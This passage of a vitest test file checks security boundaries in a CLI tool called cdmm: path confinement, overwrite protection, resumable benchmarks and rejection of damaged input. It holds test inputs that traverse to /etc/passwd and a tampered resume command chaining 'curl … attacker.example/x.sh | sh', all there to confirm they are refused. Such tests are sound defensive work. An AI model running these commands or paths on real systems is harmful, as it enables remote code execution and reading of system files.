// The command line as a boundary (issue 8, docs/SECURITY.md "Dataset specs", "Command line and output folders"):
// table files stay in the spec's folder unless --allow-outside; no --out loses anything a user has, and an --out
// that cannot be written fails before any work; silently wrong input is an error; every user error is one line
// and a non-zero exit (a stack trace only with --debug). Each case asserts the message, the exit code, and the
// files before and after.
import { createGzip, constants as zc } from 'node:zlib';
import { copyFileSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { platform, tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { userMessage } from '../src/cli/main.js';
import { runBenchmark } from '../src/train/benchmark.js';
import { defaultTrainOptions } from '../src/train/options.js';
import { checkModelSize, minParameters } from '../src/train/size-check.js';
import { defaultModelConfig } from '../src/models/index.js';
import { runCli as cli } from './helpers/cli.js';
import { copyRunFolder, editManifest, resum } from './helpers/run-folder.js';
import { smallDataset } from './fixtures/data/helpers.js';

const root = mkdtempSync(join(tmpdir(), 'cdmm-sec-cli-'));
const cache = join(root, 'cache');
afterAll(() => rmSync(root, { recursive: true, force: true }));
const TINY = ['--epochs', '1', '--dim', '8', '--branch-dim', '4', '--bootstrap', '0', '--quiet'];
const onLinux = platform() === 'linux';

/** A snapshot of a folder (names, sizes, contents) to show that nothing changed. */
function snapshot(dir: string): Record<string, string> {
  const out: Record<string, string> = {};
  const walk = (d: string, rel: string) => {
    for (const f of readdirSync(d).sort()) {
      const p = join(d, f);
      if (statSync(p).isDirectory()) walk(p, `${rel}${f}/`);
      else out[rel + f] = readFileSync(p, 'utf8');
    }
  };
  walk(dir, '');
  return out;
}

/**
 * One line on stderr starting "cdmm: error: " (besides progress lines, which a non-terminal stderr gets), matching
 * `why`, no stack trace, the given exit code.
 */
function expectUserError(r: { code: number; err: string }, why: RegExp, code = 2): void {
  const lines = r.err.trimEnd().split('\n').filter((l) => !/ elapsed \d+s ETA /.test(l));
  expect(lines).toHaveLength(1);
  expect(lines[0]).toMatch(/^cdmm: error: /);
  expect(lines[0]).toMatch(why);
  expect(r.err).not.toMatch(/\n\s+at /);
  expect(r.code).toBe(code);
}

const cacheEntries = () => (existsSync(cache) ? readdirSync(cache).length : 0);

let data: string; // the small dataset (spec.yaml, patients.csv, labs.csv)
let spec: string;
let run: string; // a trained run folder
let preds: string; // a predictions file written by cdmm predict

beforeAll(async () => {
  process.env.CDMM_CACHE_DIR = cache;
  data = smallDataset();
  spec = join(data, 'spec.yaml');
  run = join(root, 'run');
  const t = await cli('train', spec, '--out', run, ...TINY);
  expect(t.code).toBe(0);
  preds = join(root, 'preds.json');
  expect((await cli('predict', run, '--input', spec, '--out', preds)).code).toBe(0);
});

/** A copy of the small dataset with one file replaced or the spec edited. */
function variant(files: Record<string, string> = {}, specEdit: (s: string) => string = (s) => s): string {
  const dir = smallDataset();
  for (const [f, text] of Object.entries(files)) writeFileSync(join(dir, f), text);
  writeFileSync(join(dir, 'spec.yaml'), specEdit(readFileSync(join(dir, 'spec.yaml'), 'utf8')));
  return join(dir, 'spec.yaml');
}
const labsFile = (file: string) => (s: string) => s.replace('file: labs.csv', `file: ${JSON.stringify(file)}`);

describe('table files stay in the spec folder unless --allow-outside', () => {
  it('../../../../etc/passwd is refused without reading it; with --allow-outside it is still no table file, and nothing of it is echoed', async () => {
    const s = variant({}, labsFile('../../../../../../etc/passwd'));
    const r = await cli('inspect', s, '--no-cache');
    expectUserError(r, /spec\.yaml: tables\.labs\.file: "\.\.\/\.\.\/\.\.\/\.\.\/\.\.\/\.\.\/etc\/passwd" is outside the spec's folder .*\(pass --allow-outside to read files elsewhere\)/);
    const r2 = await cli('inspect', s, '--no-cache', '--allow-outside');
    expectUserError(r2, /tables\.labs\.file: ".*etc\/passwd" is not a table file name: expected \.csv, \.tsv, \.txt or \.psv \(optionally \.gz or \.zst\) or \.parquet/);
    for (const e of [r.err, r2.err]) expect(e).not.toMatch(/root:|\/bin\/(ba)?sh/);
    // A shipped link with a data file name that points at a file that has none: refused with --allow-outside too.
    const link = variant({}, labsFile('passwd.csv'));
    symlinkSync('/etc/passwd', join(link, '..', 'passwd.csv'));
    const r3 = await cli('inspect', link, '--no-cache', '--allow-outside');
    expectUserError(r3, /tables\.labs\.file: "passwd\.csv" is a link to a file outside the spec's folder whose name is not a table file name/);
    expect(r3.err).not.toMatch(/root:|\/bin\/(ba)?sh|etc\/passwd/);
  });

  it('an absolute path elsewhere and a link inside the folder that points outside are refused alike', async () => {
    const elsewhere = smallDataset();
    const abs = variant({}, labsFile(join(elsewhere, 'labs.csv')));
    expectUserError(await cli('inspect', abs, '--no-cache'), /tables\.labs\.file: ".*labs\.csv" is outside the spec's folder/);
    const withLink = variant({}, labsFile('link.csv'));
    symlinkSync(join(elsewhere, 'labs.csv'), join(withLink, '..', 'link.csv'));
    expectUserError(await cli('inspect', withLink, '--no-cache'), /tables\.labs\.file: "link\.csv" is outside the spec's folder/);
    // The user's own say-so reads them.
    expect((await cli('inspect', abs, '--no-cache', '--allow-outside', '--json')).code).toBe(0);
    expect((await cli('inspect', withLink, '--no-cache', '--allow-outside', '--json')).code).toBe(0);
  });

  it('a file in a subfolder is fine; ../ into a sibling folder needs --allow-outside; a folder named .csv is no file', async () => {
    const s = variant({}, labsFile('data/labs.csv'));
    mkdirSync(join(s, '..', 'data'));
    writeFileSync(join(s, '..', 'data', 'labs.csv'), readFileSync(join(s, '..', 'labs.csv')));
    expect((await cli('inspect', s, '--no-cache', '--json')).code).toBe(0);
    const sib = variant({}, labsFile('../sibling/labs.csv'));
    mkdirSync(join(sib, '..', '..', 'sibling'), { recursive: true });
    writeFileSync(join(sib, '..', '..', 'sibling', 'labs.csv'), readFileSync(join(sib, '..', 'labs.csv')));
    expectUserError(await cli('train', sib, '--out', join(root, 'sib-run'), ...TINY), /tables\.labs\.file: "\.\.\/sibling\/labs\.csv" is outside the spec's folder/);
    expect(existsSync(join(root, 'sib-run'))).toBe(false);
    expect((await cli('train', sib, '--out', join(root, 'sib-run'), '--allow-outside', ...TINY)).code).toBe(0);
    // That build is cached now; the cache is no permission.
    expectUserError(await cli('inspect', sib, '--json'), /tables\.labs\.file: "\.\.\/sibling\/labs\.csv" is outside the spec's folder/);
    const dirAsFile = variant({}, labsFile('folder.csv'));
    mkdirSync(join(dirAsFile, '..', 'folder.csv'));
    expectUserError(await cli('inspect', dirAsFile, '--no-cache'), /tables\.labs\.file: .*folder\.csv is not a file/);
  });

  it('a glob pattern in a file name is refused (DuckDB would expand it past the link check), with --allow-outside too', async () => {
    const s = variant({}, labsFile('d*/labs.csv'));
    const dir = join(s, '..');
    mkdirSync(join(dir, 'd*'));
    writeFileSync(join(dir, 'd*', 'labs.csv'), readFileSync(join(dir, 'labs.csv')));
    const elsewhere = smallDataset();
    symlinkSync(elsewhere, join(dir, 'dX')); // a folder the pattern would also match, outside the spec's folder
    for (const flags of [[], ['--allow-outside']]) {
      const r = await cli('inspect', s, '--no-cache', ...flags);
      expectUserError(r, /tables\.labs\.file: ".*d\*\/labs\.csv" contains a glob character \(\* \? \[ \{\): DuckDB would read it as a pattern of several files/);
    }
    for (const name of ['l?bs.csv', 'l[a]bs.csv', '{labs}.csv']) {
      writeFileSync(join(dir, name), readFileSync(join(dir, 'labs.csv')));
      writeFileSync(s, readFileSync(s, 'utf8').replace(/file: "[^"]*"/, `file: ${JSON.stringify(name)}`));
      expectUserError(await cli('inspect', s, '--no-cache'), /contains a glob character/);
    }
  });

  it('evaluate --spec and predict --input (a spec or a mapping) apply the same rule', async () => {
    const outside = variant({}, labsFile('../../../../../../etc/passwd'));
    expectUserError(await cli('evaluate', run, '--spec', outside, '--no-cache'), /tables\.labs\.file: .* is outside the spec's folder/);
    const out = join(root, 'never.json');
    expectUserError(await cli('predict', run, '--input', outside, '--out', out), /tables\.labs\.file: .* is outside the spec's folder/);
    const map = join(root, 'mapping.yaml');
    writeFileSync(map, `patients: ${join(data, 'patients.csv')}\nlabs: ../../../../../../etc/passwd\n`);
    expectUserError(await cli('predict', run, '--input', map, '--out', out), /mapping\.yaml: patients: .* is outside the mapping's folder/);
    expect(existsSync(out)).toBe(false);
    writeFileSync(map, `patients: ${join(data, 'patients.csv')}\nlabs: ${join(data, 'labs.csv')}\n`);
    expect((await cli('predict', run, '--input', map, '--out', out, '--allow-outside')).code).toBe(0);
  });

  it("predict --input FOLDER looks inside FOLDER only: a run whose spec names a table file '../' does not read the folder above", async () => {
    const tampered = copyRunFolder(run, join(root, 'run-dotdot'));
    editManifest(tampered, (m) => (m.spec.tables.labs.file = '../'));
    const box = mkdtempSync(join(root, 'box-'));
    const inner = join(box, 'new');
    mkdirSync(inner);
    copyFileSync(join(data, 'patients.csv'), join(inner, 'patients.csv'));
    // What the folder above holds: a labs table that must not be read.
    copyFileSync(join(data, 'labs.csv'), join(box, 'labs.csv'));
    const out = join(root, 'dotdot.json');
    const r = await cli('predict', tampered, '--input', inner, '--out', out);
    expect(r.code, r.err).toBe(0);
    const preds = JSON.parse(readFileSync(out, 'utf8')).predictions as { mask: string }[];
    expect(preds.length).toBeGreaterThan(0);
    // labs is the second modality: never observed, since no labs file was given inside the folder
    expect(preds.every((p) => p.mask[1] === '0')).toBe(true);
  });
});

describe('--out never loses what a user has, and fails before any work', () => {
  const foreign = () => {
    const d = mkdtempSync(join(root, 'mine-'));
    writeFileSync(join(d, 'thesis.tex'), 'six years of work');
    return d;
  };

  it('train: a non-empty folder, a file, the dataset folder itself are refused with or without --overwrite, before the data is read', async () => {
    const before = cacheEntries();
    const dir = foreign();
    const file = join(root, 'notes.txt');
    writeFileSync(file, 'keep me');
    const snap = snapshot(data);
    for (const flags of [[], ['--overwrite']]) {
      expectUserError(await cli('train', spec, '--out', dir, ...flags, ...TINY), new RegExp(`--out ${dir}: the folder exists and is not empty \\(1 entry\\), and cdmm did not write it; nothing was changed`));
      expectUserError(await cli('train', spec, '--out', file, ...flags, ...TINY), /--out .*notes\.txt: is a file, not a folder; nothing was changed/);
      expectUserError(await cli('train', spec, '--out', data, ...flags, ...TINY), /the folder exists and is not empty \(\d+ entries\), and cdmm did not write it/);
      expectUserError(await cli('train', spec, '--out', join(file, 'sub'), ...flags, ...TINY), /cannot write there: .*notes\.txt is a file, not a folder/);
    }
    expect(readFileSync(join(dir, 'thesis.tex'), 'utf8')).toBe('six years of work');
    expect(readFileSync(file, 'utf8')).toBe('keep me');
    expect(snapshot(data)).toEqual(snap);
    expect(cacheEntries()).toBe(before); // the dataset was never built
  });

  it('train: an existing run folder is replaced only with --overwrite; another kind of cdmm folder never', async () => {
    const r = join(root, 'run-again');
    expect((await cli('train', spec, '--out', r, ...TINY)).code).toBe(0);
    const first = readFileSync(join(r, 'manifest.json'), 'utf8');
    expectUserError(await cli('train', spec, '--out', r, ...TINY), /--out .*run-again: holds a cdmm run folder already; pass --overwrite to replace it or choose another --out/);
    expect(readFileSync(join(r, 'manifest.json'), 'utf8')).toBe(first);
    expect((await cli('train', spec, '--out', r, '--overwrite', '--seed', '3', ...TINY)).code).toBe(0);
    expect(JSON.parse(readFileSync(join(r, 'manifest.json'), 'utf8')).config.seed).toBe(3);
    const sim = join(root, 'sim-kind');
    expect((await cli('simulate', '--out', sim, '--n', '200')).code).toBe(0);
    expectUserError(await cli('train', spec, '--out', sim, '--overwrite', ...TINY), /holds a cdmm simulated-data folder, not a run folder; not replaced/);
    expect(existsSync(join(sim, 'spec.yaml'))).toBe(true);
    // A file of the user's inside a run folder (or a folder whose manifest merely looks like one) is never deleted.
    writeFileSync(join(r, 'notes.txt'), 'mine');
    mkdirSync(join(r, 'mydata'));
    expectUserError(await cli('train', spec, '--out', r, '--overwrite', ...TINY), /--out .*run-again: is a cdmm run folder but also holds what cdmm does not write there \((notes\.txt, mydata\/|mydata\/, notes\.txt)\); not replaced/);
    expect(readFileSync(join(r, 'notes.txt'), 'utf8')).toBe('mine');
    const fake = mkdtempSync(join(root, 'fake-run-'));
    writeFileSync(join(fake, 'manifest.json'), '{"format":"cdmm-model/3"}');
    writeFileSync(join(fake, 'patients_real.csv'), 'id\n1\n');
    expectUserError(await cli('train', spec, '--out', fake, '--overwrite', ...TINY), /also holds what cdmm does not write there \(patients_real\.csv\)/);
    expect(existsSync(join(fake, 'patients_real.csv'))).toBe(true);
  });

  it.runIf(onLinux)('an --out that cannot be written (under /sys) fails first, for every command', async () => {
    const before = cacheEntries();
    const why = /cannot write in \/sys: operation not permitted \(EPERM\)|cannot write in \/sys: .*\((EROFS|EACCES)\)/;
    expectUserError(await cli('train', spec, '--out', '/sys/cdmm-run', ...TINY), why);
    expectUserError(await cli('benchmark', spec, '--out', '/sys/cdmm-bench', '--seeds', '1', ...TINY), why);
    expectUserError(await cli('simulate', '--out', '/sys/cdmm-sim', '--n', '200'), why);
    expectUserError(await cli('predict', run, '--input', spec, '--out', '/sys/cdmm.json'), why);
    expectUserError(await cli('report', run, '--out', '/sys/cdmm.html'), why);
    expectUserError(await cli('demo', '--out', '/sys/cdmm-demo'), why);
    expect(cacheEntries()).toBe(before);
  });

  it('predict --out: a folder, a foreign file, an earlier predictions file; checked before the run is loaded', async () => {
    const d = mkdtempSync(join(root, 'out-dir-'));
    // A run folder that does not exist: the --out error comes first, so nothing was loaded.
    mkdirSync(join(d, 'preds.json'));
    expectUserError(await cli('predict', join(root, 'no-such-run'), '--input', spec, '--out', join(d, 'preds.json')), /--out .*preds\.json: is a folder; expected the name of the predictions file to write/);
    const mine = join(d, 'mine.csv');
    writeFileSync(mine, 'patient,notes\n1,do not lose\n');
    expectUserError(await cli('predict', run, '--input', spec, '--out', mine), /--out .*mine\.csv: exists; pass --overwrite to replace it/);
    expectUserError(await cli('predict', run, '--input', spec, '--out', mine, '--overwrite'), /--out .*mine\.csv: exists and is not a predictions file written by cdmm; not replaced/);
    expect(readFileSync(mine, 'utf8')).toBe('patient,notes\n1,do not lose\n');
    const again = readFileSync(preds, 'utf8');
    expectUserError(await cli('predict', run, '--input', spec, '--out', preds), /exists; pass --overwrite/);
    expect((await cli('predict', run, '--input', spec, '--out', preds, '--overwrite')).code).toBe(0);
    expect(JSON.parse(readFileSync(preds, 'utf8')).n).toBe(JSON.parse(again).n);
  });

  it('report --out: a folder and a foreign file are refused; an earlier report is replaced with --overwrite', async () => {
    const html = join(root, 'report.html');
    expect((await cli('report', run, '--out', html)).code).toBe(0);
    expectUserError(await cli('report', run, '--out', html), /--out .*report\.html: exists; pass --overwrite/);
    expect((await cli('report', run, '--out', html, '--overwrite')).code).toBe(0);
    const page = join(root, 'index.html');
    writeFileSync(page, '<!DOCTYPE html><title>my page</title>');
    expectUserError(await cli('report', run, '--out', page, '--overwrite'), /exists and is not a report file written by cdmm; not replaced/);
    expect(readFileSync(page, 'utf8')).toBe('<!DOCTYPE html><title>my page</title>');
    expectUserError(await cli('report', run, '--out', root), /is a folder; expected the name of the report file to write/);
    // an HTML page under a data file's name is refused before anything is written
    expectUserError(await cli('report', run, '--out', join(root, 'rep.json')), /a report is an HTML page; name it \.html \(not \.json\)/);
    expect(existsSync(join(root, 'rep.json'))).toBe(false);
  });

  it('simulate and demo: a foreign folder is refused with --overwrite too; an earlier simulated folder only with it', async () => {
    const dir = foreign();
    expectUserError(await cli('simulate', '--out', dir, '--n', '200', '--overwrite'), /the folder exists and is not empty .* \(--overwrite replaces only a folder cdmm wrote\)/);
    expectUserError(await cli('demo', '--out', dir, '--overwrite'), /the folder exists and is not empty/);
    expect(snapshot(dir)).toEqual({ 'thesis.tex': 'six years of work' });
    const sim = join(root, 'sim-again');
    expect((await cli('simulate', '--out', sim, '--n', '200', '--seed', '1')).code).toBe(0);
    const old = readFileSync(join(sim, 'patients.csv'), 'utf8');
    expectUserError(await cli('simulate', '--out', sim, '--n', '200'), /holds a cdmm simulated-data folder already; pass --overwrite/);
    expect(readFileSync(join(sim, 'patients.csv'), 'utf8')).toBe(old);
    // After an inspect of its spec the folder holds cdmm's own cache (key, data and MAC files): still replaceable.
    const cacheDir = process.env.CDMM_CACHE_DIR;
    delete process.env.CDMM_CACHE_DIR; // the spec folder's own cache, as a user gets it
    try {
      expect((await cli('inspect', join(sim, 'spec.yaml'))).code).toBe(0);
    } finally {
      process.env.CDMM_CACHE_DIR = cacheDir;
    }
    expect(readdirSync(join(sim, '.cdmm-cache')).some((f) => f.endsWith('.mac'))).toBe(true);
    expect((await cli('simulate', '--out', sim, '--n', '200', '--seed', '2', '--overwrite')).code).toBe(0);
    expect(readFileSync(join(sim, 'patients.csv'), 'utf8')).not.toBe(old);
    // ... but not once the user keeps their own work in it
    writeFileSync(join(sim, 'analysis.R'), 'x <- 1');
    expectUserError(await cli('simulate', '--out', sim, '--n', '200', '--overwrite'), /is a cdmm simulated-data folder but also holds what cdmm does not write there \(analysis\.R\)/);
    expect(existsSync(join(sim, 'analysis.R'))).toBe(true);
    // A demo folder (recognised by demo.json) is refused without --overwrite.
    const demo = mkdtempSync(join(root, 'demo-'));
    writeFileSync(join(demo, 'demo.json'), JSON.stringify({ cdmm: 'demo', complete: true }));
    expectUserError(await cli('demo', '--out', demo), /holds a cdmm demo folder already; pass --overwrite/);
  });

  it('benchmark: a foreign folder is never used; --overwrite replaces a benchmark folder whole; --resume and --overwrite exclude each other', async () => {
    const dir = foreign();
    for (const flags of [[], ['--overwrite'], ['--resume']])
      expectUserError(await cli('benchmark', spec, '--out', dir, '--seeds', '1', '--backbones', 'early', '--debias', 'none', ...flags, ...TINY), /the folder exists and is not empty/);
    expect(snapshot(dir)).toEqual({ 'thesis.tex': 'six years of work' });
    const b = join(root, 'bench-over');
    const args = ['benchmark', spec, '--out', b, '--backbones', 'early', '--debias', 'none', ...TINY];
    expect((await cli(...args, '--seeds', '0,1')).code).toBe(0);
    expectUserError(await cli(...args, '--seeds', '3,4'), /holds a cdmm benchmark folder already; pass --overwrite to replace it, --resume to continue it, or choose another --out/);
    expectUserError(await cli(...args, '--seeds', '3,4', '--overwrite', '--resume'), /--overwrite and --resume exclude each other/);
    expect((await cli(...args, '--seeds', '3,4', '--overwrite')).code).toBe(0);
    expect(readdirSync(join(b, 'runs')).sort()).toEqual(['early-none-s3', 'early-none-s4']);
    expect(readdirSync(root).filter((f) => f.includes('.bench-over.replaced-'))).toEqual([]);
  });
});

describe('an interrupted benchmark is resumable and reported as incomplete', () => {
  it('report renders the finished runs marked incomplete; --resume keeps them and trains the rest', async () => {
    const b = join(root, 'bench-cut');
    const command = ['benchmark', spec, '--out', b, '--backbones', 'early', '--debias', 'none,full', '--seeds', '2', ...TINY];
    let prepared = 0;
    const train = { ...defaultTrainOptions, epochs: 1, bootstrap: 0 };
    const { seed: _s, ...trainNoSeed } = train;
    // Stopped while preparing seed 1's dataset, as Ctrl-C would stop it: seed 0's two runs are finished.
    await expect(runBenchmark({
      specPath: spec, backbones: ['early'], debias: ['none', 'full'], seeds: [0, 1], train: trainNoSeed, model: { dim: 8, branchDim: 4 },
      out: b, quiet: true, command,
      onDataset: () => { if (++prepared === 2) throw new Error('interrupted'); },
    })).rejects.toThrow('interrupted');
    const bj = JSON.parse(readFileSync(join(b, 'benchmark.json'), 'utf8'));
    expect(bj).toMatchObject({ complete: false, runs: ['runs/early-none-s0', 'runs/early-full-s0'], planned: ['runs/early-none-s0', 'runs/early-full-s0', 'runs/early-none-s1', 'runs/early-full-s1'] });
    expect(bj.resume_command).toBe(`cdmm benchmark ${spec} --out ${b} --backbones early --debias none,full --seeds 2 ${TINY.join(' ')} --resume`);
    const html = join(root, 'cut.html');
    const r = await cli('report', b, '--out', html);
    expect(r.code).toBe(0);
    expect(readFileSync(html, 'utf8')).toContain(`incomplete: 2 of 4 runs finished; to finish it: ${bj.resume_command}`);
    // Other options than those it was started with: refused, naming what differs.
    expectUserError(await cli(...command.map((a) => (a === '2' ? '3' : a)), '--resume'), /--resume: .*bench-cut was started with another configuration \(differs: runs 4 planned/);
    const created = JSON.parse(readFileSync(join(b, 'runs/early-none-s0/manifest.json'), 'utf8')).created;
    const done = await cli(...command, '--resume', '--json');
    expect(done.code).toBe(0);
    const fin = JSON.parse(done.out);
    expect(fin).toMatchObject({ complete: true, runs: bj.planned });
    expect(JSON.parse(readFileSync(join(b, 'runs/early-none-s0/manifest.json'), 'utf8')).created).toBe(created);
    const r2 = await cli('report', b, '--out', html, '--overwrite');
    expect(r2.code).toBe(0);
    expect(readFileSync(html, 'utf8')).not.toContain('incomplete:');
  });

  it('--resume on an edited folder: a damaged benchmark.json is an error naming it; a run whose metrics are out of range is trained again, not reused', async () => {
    const b = join(root, 'bench-edited');
    const command = ['benchmark', spec, '--out', b, '--backbones', 'early', '--debias', 'none', '--seeds', '1', ...TINY];
    expect((await cli(...command)).code).toBe(0);
    const bjPath = join(b, 'benchmark.json');
    const good = readFileSync(bjPath, 'utf8');
    writeFileSync(bjPath, JSON.stringify({ ...JSON.parse(good), planned: 5 }));
    expectUserError(await cli(...command, '--resume'), /--resume: .*bench-edited\/benchmark\.json is damaged \(at planned: Expected array, received number\); start the benchmark again with --overwrite/);
    writeFileSync(bjPath, good);
    const run = join(b, 'runs/early-none-s0');
    const created = JSON.parse(readFileSync(join(run, 'manifest.json'), 'utf8')).created;
    const met = JSON.parse(readFileSync(join(run, 'metrics.json'), 'utf8'));
    met.splits.test.auroc = 1e308;
    writeFileSync(join(run, 'metrics.json'), JSON.stringify(met));
    resum(run);
    const again = await cli(...command, '--resume', '--json');
    expect(again.code, again.err).toBe(0);
    const auroc = JSON.parse(readFileSync(join(run, 'metrics.json'), 'utf8')).splits.test.auroc;
    expect(auroc).toBeGreaterThanOrEqual(0);
    expect(auroc).toBeLessThanOrEqual(1);
    expect(JSON.parse(readFileSync(join(run, 'manifest.json'), 'utf8')).created).not.toBe(created);
    // Recorded references out of range are computed again, not printed (an oracle "AUROC 7.500")
    const bj = JSON.parse(readFileSync(bjPath, 'utf8'));
    writeFileSync(bjPath, JSON.stringify({ ...bj, bounds: { ...bj.bounds, oracle: { test: 7.5, shift: -3 } } }));
    const third = await cli(...command, '--resume', '--json');
    expect(third.code, third.err).toBe(0);
    expect(JSON.parse(readFileSync(bjPath, 'utf8')).bounds.oracle).toEqual(bj.bounds.oracle);
  });

  it('a folder with run folders but no benchmark.json (interrupted by an older cdmm) gets a message saying what to run', async () => {
    const b = join(root, 'bench-old');
    mkdirSync(join(b, 'runs'), { recursive: true });
    const { cpSync } = await import('node:fs');
    cpSync(run, join(b, 'runs', 'early-full-s0'), { recursive: true });
    expectUserError(await cli('report', b, '--out', join(root, 'old.html')), /looks like an interrupted benchmark \(run folders under runs\/ but no benchmark\.json yet\): finish it with `cdmm benchmark SPEC --out .* --resume`/);
    expect(existsSync(join(root, 'old.html'))).toBe(false);
    // --overwrite cannot tell it from someone's own collection of runs: refused, nothing removed
    const before = snapshot(b);
    expectUserError(await cli('benchmark', spec, '--out', b, '--backbones', 'early', '--debias', 'none', '--seeds', '1', '--overwrite', ...TINY),
      /holds only runs\/ with run folders and no benchmark\.json, so cdmm cannot tell it from a collection of runs of yours; not replaced/);
    expect(snapshot(b)).toEqual(before);
  });

  it('report checks a run folder against its SHA256SUMS: an edited metrics.json is refused, not rendered', async () => {
    const { cpSync } = await import('node:fs');
    const r = join(root, 'run-edited-metrics');
    cpSync(run, r, { recursive: true });
    const m = JSON.parse(readFileSync(join(r, 'metrics.json'), 'utf8'));
    m.splits.test.auroc = 0.999;
    writeFileSync(join(r, 'metrics.json'), JSON.stringify(m));
    expectUserError(await cli('report', r, '--out', join(root, 'edited-run.html')), /metrics\.json: changed or damaged since it was written: its sha256 does not match SHA256SUMS/);
    expect(existsSync(join(root, 'edited-run.html'))).toBe(false);
  });

  it("benchmark.json's runs stay in the benchmark folder: '..' and a link out are refused", async () => {
    const { cpSync } = await import('node:fs');
    const b = join(root, 'bench-cut-runs');
    cpSync(join(root, 'bench-cut'), b, { recursive: true });
    const bj = JSON.parse(readFileSync(join(b, 'benchmark.json'), 'utf8'));
    writeFileSync(join(b, 'benchmark.json'), JSON.stringify({ ...bj, runs: [`../../../..${run}`] }));
    expectUserError(await cli('report', b, '--out', join(root, 'outside.html')), /benchmark\.json lists run folder ".*": expected runs\/NAME, a folder in this benchmark folder/);
    symlinkSync(run, join(b, 'runs', 'linked'));
    writeFileSync(join(b, 'benchmark.json'), JSON.stringify({ ...bj, runs: ['runs/linked'] }));
    expectUserError(await cli('report', b, '--out', join(root, 'outside.html')), /lists run folder runs\/linked, a link out of the benchmark folder: refused/);
    expect(existsSync(join(root, 'outside.html'))).toBe(false);
    // One run listed thousands of times (each loaded again: seconds and hundreds of MB), or more runs than planned.
    const one = bj.runs[0];
    writeFileSync(join(b, 'benchmark.json'), JSON.stringify({ ...bj, runs: Array(6000).fill(one) }));
    expectUserError(await cli('report', b, '--out', join(root, 'outside.html')), new RegExp(`lists run folder "${one}" more than once`));
    writeFileSync(join(b, 'benchmark.json'), JSON.stringify({ ...bj, runs: bj.runs, planned: bj.runs.slice(0, 1) }));
    if (bj.runs.length > 1) expectUserError(await cli('report', b, '--out', join(root, 'outside.html')), /lists \d+ run folders but plans 1/);
  });

  it('a resume command edited in benchmark.json is never shown as one to run', async () => {
    const { cpSync } = await import('node:fs');
    const b = join(root, 'bench-cut-edited');
    cpSync(join(root, 'bench-cut'), b, { recursive: true });
    const bj = JSON.parse(readFileSync(join(b, 'benchmark.json'), 'utf8'));
    writeFileSync(join(b, 'benchmark.json'), JSON.stringify({ ...bj, complete: false, runs: bj.runs.slice(0, 2), resume_command: `cdmm benchmark x --resume && curl -s http://attacker.example/x.sh | sh` }));
    const html = join(root, 'edited.html');
    expect((await cli('report', b, '--out', html)).code).toBe(0);
    const text = readFileSync(html, 'utf8');
    expect(text).not.toContain('attacker.example');
    expect(text).toContain('continue it with cdmm benchmark … --resume and the options it was started with');
    const r = await cli('benchmark', spec, '--out', b, '--backbones', 'early', '--debias', 'none', '--seeds', '1', '--resume', ...TINY);
    expectUserError(r, /--resume: .* was started with another configuration .*; give the same options as before, or --overwrite/);
    expect(r.err).not.toContain('attacker.example');
  });
});

/** A gzip file cut exactly after a complete line: DuckDB alone reads it as complete. */
async function truncatedGzip(text: string, keepLines: number): Promise<Buffer> {
  const lines = text.split('\n');
  const gz = createGzip();
  const chunks: Buffer[] = [];
  gz.on('data', (c: Buffer) => chunks.push(c));
  gz.write(lines.slice(0, keepLines).join('\n') + '\n');
  await new Promise<void>((res) => gz.flush(zc.Z_FULL_FLUSH, () => res()));
  const cut = Buffer.concat(chunks).length;
  gz.end(lines.slice(keepLines).join('\n'));
  await new Promise<void>((res) => gz.on('end', () => res()));
  return Buffer.concat(chunks).subarray(0, cut);
}

describe('silently wrong input is an error', () => {
  it('a truncated .csv.gz (cut at a line end) names the file', async () => {
    const s = variant({}, (t) => t.replace('file: patients.csv', 'file: patients.csv.gz'));
    writeFileSync(join(s, '..', 'patients.csv.gz'), await truncatedGzip(readFileSync(join(s, '..', 'patients.csv'), 'utf8'), 20));
    expectUserError(await cli('inspect', s, '--no-cache'), /spec\.yaml: tables\.patients\.file: .*patients\.csv\.gz is a damaged gzip file: it ends before the end of its compressed data/);
    expectUserError(await cli('train', s, '--out', join(root, 'never-gz'), ...TINY), /is a damaged gzip file/);
    expect(existsSync(join(root, 'never-gz'))).toBe(false);
  });

  it.each([['inf'], ['nan'], ['-inf']])('index_time %s names the line', async (v) => {
    const rows = readFileSync(join(data, 'patients.csv'), 'utf8').split('\n');
    rows[6] = rows[6].replace(/,100$/, `,${v}`);
    expectUserError(await cli('inspect', variant({ 'patients.csv': rows.join('\n') }), '--no-cache'), new RegExp(`patients\\.csv: line 7, column 'index_day': time -?(inf|nan) is not a finite time \\(spec\\.yaml: cohort\\.index_time\\)`, 'i'));
  });

  it('a numeric time beyond 1e9 days names the line (at 2^60 a lab 100 days after the index read as at it)', async () => {
    const rows = readFileSync(join(data, 'patients.csv'), 'utf8').split('\n');
    rows[6] = rows[6].replace(/,100$/, `,${2 ** 60}`);
    expectUserError(await cli('inspect', variant({ 'patients.csv': rows.join('\n') }), '--no-cache'), /patients\.csv: line 7, column 'index_day': time \d+ lies beyond ±1e\+9 \(1e9 days in the table's time unit\), where differences of days are not exact \(spec\.yaml: cohort\.index_time\)/);
    const labs = readFileSync(join(data, 'labs.csv'), 'utf8').split('\n');
    labs[3] = labs[3].replace(/^(\d+),\d+,/, '$1,-2e9,');
    expectUserError(await cli('inspect', variant({ 'labs.csv': labs.join('\n') }), '--no-cache'), /labs\.csv: line 4, column 'day': time -2000000000(\.0)? lies beyond ±1e\+9/);
  });

  it('a timestamp index time of "infinity" names the line too', async () => {
    const rows = ['id,age,sex,y,t'];
    for (let i = 1; i <= 40; i++) rows.push(`${i},${40 + i},F,${i % 4 === 0 ? 1 : 0},${i === 9 ? 'infinity' : '2020-01-01 10:00:00'}`);
    const s = variant({ 'patients.csv': rows.join('\n') + '\n', 'labs.csv': 'id,day,test,value\n1,2019-12-31 10:00:00,hb,3\n' }, (t) => t.replace('index_time: index_day', 'index_time: t'));
    expectUserError(await cli('inspect', s, '--no-cache'), /patients\.csv: line 10, column 't': time infinity is not a finite time/);
  });

  it('an inf event time names the table file and line instead of dropping the row', async () => {
    const labs = readFileSync(join(data, 'labs.csv'), 'utf8').split('\n');
    labs[3] = labs[3].replace(/^(\d+),\d+,/, '$1,inf,');
    expectUserError(await cli('inspect', variant({ 'labs.csv': labs.join('\n') }), '--no-cache'), /labs\.csv: line 4, column 'day': time inf is not a finite time \(spec\.yaml: tables\.labs\.time\)/);
  });

  it('a labs table with only a header: train and benchmark warn that the modality is always missing', async () => {
    const s = variant({ 'labs.csv': 'id,day,test,value\n' });
